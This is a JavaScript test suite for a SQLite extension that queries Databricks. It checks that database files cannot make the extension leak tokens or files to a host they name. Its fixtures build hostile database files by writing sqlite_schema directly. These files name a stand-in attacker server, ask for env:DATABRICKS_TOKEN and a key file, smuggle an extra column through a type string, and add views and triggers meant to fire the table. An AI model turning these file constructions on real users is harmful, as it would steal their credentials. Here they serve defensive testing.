// A database file is data, not configuration: nothing stored in it (virtual
// table arguments, the stored column list, views, triggers) makes the
// extension send a credential, or an environment variable or a file, to a
// host the user did not configure outside the file; connecting a table
// makes no network call; views over remote tables work once the user allows
// them for the connection.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';

import { workspace, runShell } from './harness.mjs';

let ws, dir, attacker;
const hits = [];

before(async () => {
  ws = await workspace();
  dir = await mkdtemp(path.join(os.tmpdir(), 'dbx-trust-'));
  await remote('CREATE TABLE main.default.orders (id BIGINT, note STRING)');
  await remote("INSERT INTO main.default.orders VALUES (1, 'a'), (2, 'b')");
  // The attacker's host: records whatever reaches it.
  attacker = http.createServer((req, res) => {
    hits.push({ method: req.method, url: req.url, authorization: req.headers.authorization ?? null });
    res.writeHead(500).end();
  });
  await new Promise((r) => attacker.listen(0, '127.0.0.1', r));
});
after(async () => {
  await ws?.stop();
  attacker?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

const remote = (statement) => ws.sql(statement);

const attackerUrl = () => `http://127.0.0.1:${attacker.address().port}`;

// Number of API requests dbx-local has served so far (its admin calls aside).
async function served() {
  const { requests } = (await ws.api('GET', '/admin/requests')).body;
  return requests.filter((r) => !r.path.startsWith('/admin/')).length;
}

// Writes a database file as an attacker would, without the extension:
// a databricks table whose definition names the attacker's host, its
// stored column list, a view and a trigger over it.
async function hostileDb(name, args, { columns = true } = {}) {
  const db = path.join(dir, name);
  const def = `CREATE VIRTUAL TABLE x USING databricks(${args})`.replaceAll("'", "''");
  const r = await runShell(`PRAGMA writable_schema=ON;
INSERT INTO sqlite_schema VALUES('table', 'x', 'x', 0, '${def}');
${columns ? `CREATE TABLE x_columns(cid INTEGER PRIMARY KEY, name TEXT NOT NULL, type_text TEXT NOT NULL, type_name TEXT NOT NULL);
INSERT INTO x_columns VALUES (0, 'secret', 'string', 'STRING'), (1, 'n', 'INT,evil INT', 'INT');` : ''}
CREATE VIEW v AS SELECT * FROM x;
CREATE TABLE log(a);
CREATE TRIGGER t AFTER INSERT ON log BEGIN SELECT * FROM x; END;`, { db, load: false });
  assert.equal(r.code, 0, r.stderr);
  return db;
}

const VICTIM_SECRET = 'dapi-victim-SECRET-0123456789';

test('a hostile database file sends nothing to the host it names', async () => {
  const keyFile = path.join(dir, 'key.txt');
  await writeFile(keyFile, 'FILE-SECRET-abcdef');
  for (const [i, token] of [['1', 'env:DATABRICKS_TOKEN'], ['2', `file:${keyFile}`], ['3', 'env:HOME']]) {
    const db = await hostileDb(`hostile${i}.db`, `query='SELECT 1', host='${attackerUrl()}', token='${token}', warehouse='w1'`);
    const env = { DATABRICKS_TOKEN: VICTIM_SECRET };
    for (const sql of ['PRAGMA table_info(v);', 'SELECT * FROM v;', 'INSERT INTO log VALUES (1);',
      'SELECT * FROM x;', 'SELECT dbx_config(\'allow_views\', \'true\');\nSELECT * FROM v;']) {
      const r = await ws.run(sql, { db, env });
      assert.doesNotMatch(r.stdout + r.stderr, /SECRET/, sql);
    }
    // The table itself names its host: refused, and the message says how to
    // configure a host that is meant.
    const r = await ws.run('SELECT * FROM x;', { db, env });
    assert.notEqual(r.code, 0);
    assert.match(r.stderr, /the table definition names host http:\/\/127\.0\.0\.1:\d+, which is not the workspace configured outside the database file \(http:\/\/127\.0\.0\.1:\d+\)/);
    assert.match(r.stderr, /dbx_config\('host', 'http:\/\/127\.0\.0\.1:\d+'\)/);
    // Views and triggers over it are refused by SQLite unless allowed.
    const v = await ws.run('SELECT * FROM v;', { db, env });
    assert.match(v.stderr, /unsafe use of virtual table/);
  }
  assert.deepEqual(hits, [], 'the attacker host was never contacted');
});

test('connecting a stored table makes no network call, even for its column list', async () => {
  const db = await hostileDb('nocols.db', `table='main.default.orders', host='${attackerUrl()}'`, { columns: false });
  const before = await served();
  const r = await ws.run('PRAGMA table_info(x);\nSELECT * FROM x;', { db });
  assert.match(r.stderr, /the column list of x is missing from the database \(table x_columns\): DROP TABLE x and create it again/);
  // and it can be dropped
  const d = await ws.run('DROP TABLE x;\nSELECT count(*) AS n FROM sqlite_schema WHERE name = \'x\';', { db });
  assert.equal(d.code, 0, d.stderr);
  assert.equal(await served(), before);
  assert.deepEqual(hits, []);
});

test('stored column types cannot add columns to the declaration', async () => {
  const db = await hostileDb('types.db', `query='SELECT 1', host='${attackerUrl()}'`);
  const cols = await ws.query('SELECT name, type FROM pragma_table_info(\'x\');', { db });
  assert.deepEqual(cols, [{ name: 'secret', type: 'STRING TEXT' }, { name: 'n', type: 'INT,evil INT' }]);
});

test('a table created here keeps its columns in the file and reconnects offline', async () => {
  const db = path.join(dir, 'mine.db');
  await ws.query("CREATE VIRTUAL TABLE orders USING databricks(table='main.default.orders');", { db });
  const before = await served();
  // Another process, with no workspace configured at all: the columns are
  // still known, and nothing is sent until the table is read.
  const r = await runShell("SELECT name, type FROM pragma_table_info('orders');", { db, home: ws.home });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /"name":"id","type":"BIGINT"/);
  assert.match(r.stdout, /"name":"note","type":"STRING TEXT"/);
  assert.equal(await served(), before);
  const rows = await ws.query('SELECT id FROM orders ORDER BY id;', { db });
  assert.deepEqual(rows, [{ id: 1 }, { id: 2 }]);
  // Renaming takes the stored columns along; dropping removes them.
  await ws.query('ALTER TABLE orders RENAME TO orders2;', { db });
  assert.deepEqual(await ws.query('SELECT id FROM orders2 ORDER BY id;', { db }), [{ id: 1 }, { id: 2 }]);
  await ws.query('DROP TABLE orders2;', { db });
  const left = await ws.query("SELECT count(*) AS n FROM sqlite_schema WHERE name LIKE 'orders%';", { db });
  assert.deepEqual(left, [{ n: 0 }]);
});

test('host= may repeat the configured host, and config_file= is refused', async () => {
  const rows = await ws.query(`CREATE VIRTUAL TABLE o USING databricks(table='main.default.orders', host='${ws.server.url}');
SELECT count(*) AS n FROM o;`);
  assert.deepEqual(rows, [{ n: 2 }]);
  const ok = await ws.query(`SELECT dbx_config('host', '${attackerUrl()}') IS NULL;
CREATE VIRTUAL TABLE q USING databricks(query='SELECT 1 AS one', host='${ws.server.url}');`).catch((e) => e.message);
  assert.match(String(ok), /names host http:\/\/127\.0\.0\.1:\d+, which is not the workspace configured/);
  const err = await ws.fail(`CREATE VIRTUAL TABLE o USING databricks(table='main.default.orders', config_file='${path.join(dir, 'x.cfg')}');`);
  assert.match(err, /config_file cannot be set in a table definition, which is stored in the database file/);
  assert.deepEqual(hits, []);
});

test('saved views over remote tables work once allowed for the connection', async () => {
  const db = path.join(dir, 'views.db');
  await ws.query(`CREATE VIRTUAL TABLE orders USING databricks(table='main.default.orders');
CREATE VIEW big AS SELECT id FROM orders WHERE id > 1;`, { db });
  let err = await ws.fail('SELECT * FROM big;', { db });
  assert.match(err, /unsafe use of virtual table "orders"/);
  const rows = await ws.query(`SELECT dbx_config('allow_views', 'true');
SELECT * FROM big;`, { db });
  assert.deepEqual(rows, [{ id: 2 }]);
  err = await ws.fail(`SELECT * FROM orders LIMIT 1;
SELECT dbx_config('allow_views', 'true');`, { db });
  assert.match(err, /allow_views applies to databricks tables as they are first used, and some already are/);
  err = await ws.fail("SELECT dbx_config('allow_views', 'yes');", { db });
  assert.match(err, /allow_views must be true or false, not 'yes'/);
});

test('dbx_refresh() reads the remote columns again; they are declared when the database is opened next', async () => {
  const db = path.join(dir, 'refresh.db');
  await remote('CREATE TABLE main.default.grows (id BIGINT)');
  await ws.query("CREATE VIRTUAL TABLE grows USING databricks(table='main.default.grows');", { db });
  let [r] = await ws.query("SELECT dbx_refresh('grows') AS r;", { db });
  assert.deepEqual(JSON.parse(r.r), { table: 'grows', changed: false, note: 'the stored columns are up to date' });
  await remote('ALTER TABLE main.default.grows ADD COLUMNS (note STRING)');
  [r] = await ws.query("SELECT dbx_refresh('GROWS') AS r;", { db });
  assert.equal(JSON.parse(r.r).changed, true);
  const cols = await ws.query("SELECT name FROM pragma_table_info('grows');", { db });
  assert.deepEqual(cols.map((c) => c.name), ['id', 'note']);
  // A table whose stored list went missing gets it back.
  await ws.query('DROP TABLE grows_columns;', { db });
  [r] = await ws.query("SELECT dbx_refresh('grows') AS r;", { db });
  assert.equal(JSON.parse(r.r).changed, true);
  assert.deepEqual(await ws.query('SELECT count(*) AS n FROM grows;', { db }), [{ n: 0 }]);
  let err = await ws.fail("SELECT dbx_refresh('sqlite_schema');", { db });
  assert.match(err, /dbx_refresh\(\): 'sqlite_schema' is not a databricks virtual table of this database/);
  err = await ws.fail("CREATE VIEW rv AS SELECT dbx_refresh('grows'); SELECT * FROM rv;", { db });
  assert.match(err, /unsafe use of dbx_refresh/);
});
